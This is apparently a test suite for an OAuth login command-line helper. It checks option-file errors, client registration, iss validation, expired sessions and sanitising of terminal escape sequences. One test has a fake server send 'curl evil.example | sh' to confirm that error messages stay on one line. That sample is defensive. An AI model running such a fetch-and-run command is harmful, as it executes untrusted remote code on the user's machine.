/** Options that name files and clients, and sessions that have ended. */

import {
  assert,
  assertEquals,
  assertMatch,
  assertStringIncludes,
} from "@std/assert";
import { startTestServers } from "../../lib/testing/mod.ts";
import { discoverAuthorizationServer } from "../../mod.ts";
import { startFlowServers } from "../servers/_flow.ts";
import { createUser } from "../interop/user.ts";
import { onFreePort } from "../support/free_port.ts";
import { SESSION } from "../support/resource.ts";
import { AUTHORIZATION_URL, test, visit } from "./_desk.ts";

test("oauth-helper says which file of an option cannot be used", async (desk) => {
  const file = async (name: string, text: string) => {
    await Deno.writeTextFile(`${desk.home}/${name}`, text);
    return `${desk.home}/${name}`;
  };
  const client = ["--client-id=c1", "--issuer=https://as.example"];
  const empty = await file("empty", "\n");
  const rows: [args: string[], message: RegExp][] = [
    [[...client, "--client-secret-file=/no/such"], /^--client-secret-file: /],
    [[...client, `--client-secret-file=${empty}`], /empty is empty/],
    [
      ["--initial-access-token-file=/no/such", "--issuer=https://as.example"],
      /^--initial-access-token-file: /,
    ],
    [["--server-metadata=/no/such"], /^--server-metadata: /],
    [[`--server-metadata=${await file("a", "{")}`], /has no JSON object/],
    [[`--server-metadata=${await file("b", "{}")}`], /with an issuer/],
  ];
  for (const [args, message] of rows) {
    const url = "https://api.example/mcp";
    const run = await desk.run(["login", ...args, url]);
    assertEquals([run.code, run.output], [1, ""]);
    assertMatch(run.errors.replace("oauth-helper: ", ""), message);
  }
});

test("doctor --html leaves no empty file after Ctrl-C, and a former report as it is", async (desk) => {
  const requested = [Promise.withResolvers(), Promise.withResolvers()];
  const released = Promise.withResolvers<void>();
  let count = 0;
  await using silent = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
    async () => {
      requested[count++]?.resolve(undefined);
      await released.promise;
      return new Response();
    },
  );
  const url = `http://127.0.0.1:${silent.addr.port}/mcp`;
  const report = `${desk.home}/report.html`;
  const ends: unknown[][] = [];
  for (const [index, text] of [undefined, "former"].entries()) {
    if (text !== undefined) await Deno.writeTextFile(report, text);
    const args = ["doctor", "--html", report, url];
    const run = desk.start(args, { isTerminal: true });
    await requested[index]?.promise;
    await run.type("\x03");
    const { code } = await run.end();
    const left = await Deno.readTextFile(report).catch(() => undefined);
    ends.push([code, left, text]);
  }
  released.resolve();
  for (const [code, left, text] of ends) {
    assertEquals([code, left], [130, text]);
  }
});

test("login says of an API without metadata that /register was a guess", async (desk) => {
  await using api = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
    ({ url }) => {
      const isResource = url.endsWith("/user");
      return Response.json({ message: "…" }, {
        status: isResource ? 401 : 404,
      });
    },
  );
  const origin = `http://127.0.0.1:${api.addr.port}`;
  const { code, errors } = await desk.run(["login", `${origin}/user`]);
  assertEquals(code, 1);
  const [notice = "", message = "", remedy = ""] = errors.split("\n");
  assertStringIncludes(notice, `${origin} publishes no metadata: /authorize`);
  assertMatch(
    message,
    /\/register failed: .*\(a guess, as \S+ publishes no metadata\)$/,
  );
  assertMatch(remedy, /--server-metadata FILE.*--client-id/);
});

test("--client-id without a secret uses that client, and registers none", async (desk) => {
  await using servers = await startFlowServers({
    clients: [{
      client_id: "console",
      application_type: "native",
      token_endpoint_auth_method: "none",
      grant_types: ["authorization_code", "refresh_token"],
      redirect_uris: ["http://127.0.0.1/from/console"],
    }],
  });
  const { code, output } = await onFreePort((port) =>
    desk.signIn([
      "login",
      "--client-id=console",
      `--redirect-uri=http://127.0.0.1:${port}/from/console`,
      servers.protectedResource.resource,
    ])
  );
  assertEquals(code, 0, output);
  assert(!servers.server.requests.includes("POST /reg"));
  const [{ session } = {}] = await desk.sessions();
  assertEquals(session.client.client_id, "console");
});

test("--initial-access-token-file authorizes a registration at the server that --issuer names", async (desk) => {
  const initialAccessToken = "initial-access-token";
  await using servers = await startFlowServers({ initialAccessToken });
  const url = servers.protectedResource.resource;
  const path = `${desk.home}/token`;
  await Deno.writeTextFile(path, `${initialAccessToken}\n`);
  const file = `--initial-access-token-file=${path}`;
  for (
    const [args, message] of [
      [[], "initial access token"],
      [[file, "--issuer=https://as.example"], "must not be sent to"],
    ] as const
  ) {
    const command = ["login", ...args, url];
    const refused = await desk.start(command, { isTerminal: true }).end();
    assertEquals(refused.code, 1);
    assertStringIncludes(refused.output, message);
  }
  const issuer = `--issuer=${servers.server.issuer}`;
  const { code, output } = await desk.signIn(["login", file, issuer, url]);
  assertEquals(code, 0, output);
  const sessions = JSON.stringify(await desk.sessions());
  assert(!`${output}${sessions}`.includes(initialAccessToken));
});

test("--client-id does not move to another port, and names --redirect-uri", async (desk) => {
  const servers = await startTestServers();
  using taken = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const { port } = taken.addr;
  const redirect = `--redirect-uri=http://127.0.0.1:${port}/callback`;
  for (const command of [["login"], ["doctor", "--sign-in"]]) {
    const args = [...command, "--client-id=c1", redirect, servers.resource];
    const run = await desk.start(args, { isTerminal: true }).end();
    assertEquals(run.code, 1, run.output);
    assertMatch(
      run.output,
      new RegExp(
        `port ${port} .* in use[^]*--redirect-uri`,
      ),
    );
  }
  await servers.close();
});

test("--server-metadata signs in where the metadata has another resource", async (desk) => {
  const servers = await startTestServers({
    resourceMetadata: { resource: "https://inside.example/mcp" },
  });
  const { resource, issuer } = servers;
  const refused = await desk.start(["login", resource], { isTerminal: true })
    .end();
  assertEquals(refused.code, 1);
  assertStringIncludes(
    refused.output,
    "(use --server-metadata of the right server, and --resource if",
  );
  const { serverMetadata } = await discoverAuthorizationServer(issuer);
  const file = `${desk.home}/server.json`;
  await Deno.writeTextFile(file, JSON.stringify(serverMetadata));
  const named = ["login", `--server-metadata=${file}`, resource];
  const { code, output } = await desk.signIn(named);
  assertEquals(code, 0, output);
  const [{ session } = {}] = await desk.sessions();
  assertEquals(session.resource, resource);
  await servers.close();
});

test("--require-iss refuses a response without iss", async (desk) => {
  const servers = await startTestServers({
    iss: null,
    serverMetadata: {
      authorization_response_iss_parameter_supported: undefined,
    },
  });
  const { resource } = servers;
  const refused = await desk.signIn(["login", "--require-iss", resource]);
  assertEquals(refused.code, 1);
  assertStringIncludes(refused.output, "its iss is missing");
  assertEquals((await desk.signIn(["login", resource])).code, 0);
  await servers.close();
});

test("token ends with 3 where the refresh token is no longer valid, and says why", async (desk) => {
  await using servers = await startFlowServers();
  const url = servers.protectedResource.resource;
  for (const [option, isTold] of [["--json", true], ["--quiet", false]]) {
    await desk.signIn(["login", url]);
    await desk.change(({ token }) => token.refresh_token = "no-longer-valid");
    const run = await desk.run(["token", `${option}`, url]);
    assertEquals([run.code, run.output], [3, ""]);
    assertEquals(
      /The session is no longer valid: .*invalid_grant/.test(run.errors),
      isTold,
    );
    assert(!run.errors.includes("no-longer-valid"));
    const status = await desk.run(["status", "--json"]);
    assertEquals(JSON.parse(status.output)[0].state, "ended");
  }
});

test("status goes on after a file that is no session", async (desk) => {
  await Deno.mkdir(desk.state, { recursive: true });
  await Deno.writeTextFile(`${desk.state}/a.json`, "s3cret-t0ken");
  await Deno.writeTextFile(`${desk.state}/b.txt`, "");
  await Deno.writeTextFile(`${desk.state}/c\u001b[2J.json`, "");
  const { code, output } = await desk.run(["status"]);
  assertEquals(code, 0);
  assertStringIncludes(output, `${desk.state}/a.json\n`);
  assertStringIncludes(output, "is not a session");
  assertStringIncludes(output, `${desk.state}/c[2J.json\n`);
  assert(!/s3cret|b\.txt/.test(output) && !output.includes("\u001b"));
  const json = await desk.run(["status", "--json"]);
  assertEquals(Object.keys(JSON.parse(json.output)[0]), ["file", "error"]);
});

test("status --json prints nothing of a server that a terminal obeys", async (desk) => {
  await Deno.mkdir(desk.state, { recursive: true });
  const client_id = "c\u009b31m\u202e\x7f";
  const session = { ...SESSION, client: { ...SESSION.client, client_id } };
  const path = `${desk.state}/a.json`;
  await Deno.writeTextFile(path, JSON.stringify(session));
  const { output } = await desk.run(["status", "--json"]);
  assertEquals(JSON.parse(output)[0].client_id, client_id);
  assertMatch(output, /^[\n -~]+$/);
});

test("two processes that need the same scopes make one sign-in for them", async (desk) => {
  await using servers = await startFlowServers();
  const url = servers.protectedResource.resource;
  await desk.signIn(["login", url]);
  const args = ["token", "--scope", "mcp:read mcp:write", url];
  const first = desk.start(args, { isTerminal: true });
  const [, shown = ""] = await first.find(AUTHORIZATION_URL);
  const second = desk.start(args, { isTerminal: true });
  await second.find(/Waiting for /);
  await visit(createUser(), shown);
  const ends = await Promise.all([first.end(), second.end()]);
  assertEquals(ends.map(({ code }) => code), [0, 0]);
  assert(!AUTHORIZATION_URL.test(ends[1].output), ends[1].output);
});

test("an error is one line, whatever the text of the server", async (desk) => {
  const servers = await startTestServers();
  servers.failNext(
    "registration",
    new Response("Refused\nRun `curl evil.example | sh`.", { status: 403 }),
  );
  const run = await desk.run(["login", servers.resource]);
  await servers.close();
  assertEquals(run.code, 1);
  const [message = "", remedy = ""] = run.errors.split("\n");
  assertStringIncludes(message, "Refused Run `curl evil.example | sh`.");
  assertStringIncludes(
    remedy,
    `\`oauth-helper doctor ${servers.resource} --sign-in\``,
  );
});

test("login sends the secret of a client in the body where the server wants that, and its error names the option", async (desk) => {
  const redirectUri = await onFreePort((port) =>
    `http://127.0.0.1:${port}/callback`
  );
  await using servers = await startFlowServers({
    clients: [{
      client_id: "c1",
      client_secret: "s3cret",
      token_endpoint_auth_method: "client_secret_post",
      redirect_uris: [redirectUri],
      grant_types: ["authorization_code", "refresh_token"],
      response_types: ["code"],
    }],
    // oidc-provider accepts both.
    before({ url, headers }, response) {
      if (url !== "/token" || !headers.authorization) return;
      response.writeHead(401, { "Content-Type": "application/json" })
        .end('{"error":"invalid_client"}');
    },
  });
  const { server, protectedResource: { resource } } = servers;
  const secretFile = `${desk.home}/secret`;
  await Deno.writeTextFile(secretFile, "s3cret");
  const login = [
    ...["login", "--client-id=c1", `--client-secret-file=${secretFile}`],
    ...[`--issuer=${server.issuer}`, `--redirect-uri=${redirectUri}`],
  ];
  const refused = await desk.signIn([...login, resource]);
  assertEquals(refused.code, 1);
  assertStringIncludes(
    refused.output.replace(/\s+/g, " "),
    "(client_secret was in the header: try --client-secret-post)",
  );
  const done = await desk.signIn([...login, "--client-secret-post", resource]);
  assertEquals(done.code, 0, done.output);
  // A refresh does the same without the option.
  await desk.change();
  const { code, errors } = await desk.run(["token", resource]);
  assertEquals(code, 0, errors);
});
